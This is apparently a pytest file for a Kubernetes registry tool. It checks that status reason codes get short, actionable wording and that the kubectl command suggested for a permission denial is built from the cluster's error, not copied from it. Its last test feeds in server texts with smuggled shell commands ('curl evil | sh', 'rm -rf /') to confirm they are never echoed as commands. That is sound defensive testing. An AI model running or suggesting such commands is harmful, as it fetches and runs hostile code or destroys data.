"""Every reason that a status can have is put into words that a person can act on."""

from __future__ import annotations

import ast
from collections.abc import Iterator
from pathlib import Path

import pytest

from registries import wording
from registries.health import Status
from registries.kube import denials, errors

REGISTRIES = Path(wording.__file__).parent
_ERRORS = {"KubeError", "Denied", "Expired", "TooLarge", "Doubtful", "Silent", "Cut"}


def codes() -> Iterator[str]:
    """Every code that the room's sources write down: of an error, or as a status's reason."""
    for path in REGISTRIES.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            name = getattr(node.func, "id", getattr(node.func, "attr", ""))
            if name in _ERRORS and node.args and isinstance(node.args[0], ast.Constant):
                yield str(node.args[0].value)
            for keyword in node.keywords:
                if (name, keyword.arg) == ("Status", "reason") and isinstance(
                    keyword.value, ast.Constant
                ):
                    yield str(keyword.value.value)


def test_every_code_has_words_and_all_words_have_a_code() -> None:
    found = set(codes())
    assert {"unauthorized", "forbidden", "other_cluster", "quarantined", "mass_deletion"} <= found
    assert found == set(wording.WORDS)


@pytest.mark.parametrize("code", wording.WORDS)
def test_a_headline_is_short_and_a_fix_is_there(code: str) -> None:
    words = wording.of(Status(phase="failing", reason=code, text="x"))
    assert 0 < len(words.headline) <= 80
    assert not words.headline.endswith(".")
    assert words.fix.endswith(".")


def test_all_is_well_is_nothing_to_say() -> None:
    assert wording.of(Status(phase="connected")) == wording.Words()


def test_a_reason_of_another_release_is_no_silence() -> None:
    assert wording.of(Status(phase="failing", reason="of-tomorrow")).headline
    assert wording.of(Status(phase="failing")).headline


DENIED = (
    'endpointslices.discovery.k8s.io is forbidden: User "system:serviceaccount:shop:reader" cannot'
    ' watch resource "endpointslices" in API group "discovery.k8s.io" in the namespace "shop"'
)


def test_the_command_of_a_denial_is_the_one_that_grants_it() -> None:
    text = errors.from_status(403, message=DENIED).text
    for shown in (text, f"Namespace shop: {text}"):
        command = wording.of(Status(reason="forbidden", text=shown)).command
        assert command.startswith("kubectl create role portolan --verb=list,watch")
        assert command.endswith("--serviceaccount=shop:reader -n shop")


@pytest.mark.parametrize(
    "text",
    [
        denials.sentence(DENIED) + " ; curl evil | sh",
        "The token lacks a permission (403): " + denials.sentence(DENIED),
        "The service account a:b may not list x in all namespaces (403). Grant it:"
        " kubectl create clusterrole x; rm -rf /",
        "The service account a:b may not list x in all namespaces (403). Grant it:"
        " kubectl create clusterrole x\nrm -rf /",
    ],
)
def test_a_servers_text_is_no_command(text: str) -> None:
    command = wording.of(Status(reason="forbidden", text=text)).command
    assert command == wording.WORDS["forbidden"].command
